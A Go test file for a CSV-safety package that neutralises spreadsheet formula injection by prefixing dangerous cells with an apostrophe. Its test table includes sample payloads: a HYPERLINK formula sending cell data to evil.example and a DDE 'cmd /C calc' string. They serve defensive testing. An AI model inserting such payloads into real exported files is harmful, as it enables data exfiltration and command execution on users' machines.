package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		"":      "",
		"Seoul": "Seoul",
		"=1+1":  "'=1+1",
		`=HYPERLINK("http://evil.example/?"&A1,"click")`: `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"+cmd|' /C calc'!A0":                             "'+cmd|' /C calc'!A0",
		"-2+3":                                           "'-2+3",
		"@SUM(A1:A2)":                                    "'@SUM(A1:A2)",
		"\t=1":                                           "'\t=1",
		"\r=1":                                           "'\r=1",
		"-3.5":                                           "-3.5",
		"+2":                                             "+2",
		"-1e-3":                                          "-1e-3",
		"-.5":                                            "-.5",
		"12":                                             "12",
		"-":                                              "'-",
		"-Inf":                                           "'-Inf",
		"- 3":                                            "'- 3",
		"-1e":                                            "'-1e",
		"-1.2.3":                                         "'-1.2.3",
		"a=b":                                            "a=b",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWriterNeutralisesEveryCellAndKeepsTheRecord(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	rec := []string{"=1", "-4", "@x", "ok"}
	if err := w.WriteAll([][]string{rec}); err != nil {
		t.Fatal(err)
	}
	if rec[0] != "=1" {
		t.Errorf("the caller's record was changed: %q", rec)
	}
	got, err := csv.NewReader(&buf).Read()
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"'=1", "-4", "'@x", "ok"}; !equal(got, want) {
		t.Errorf("read back %q, want %q", got, want)
	}
}

func equal(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}
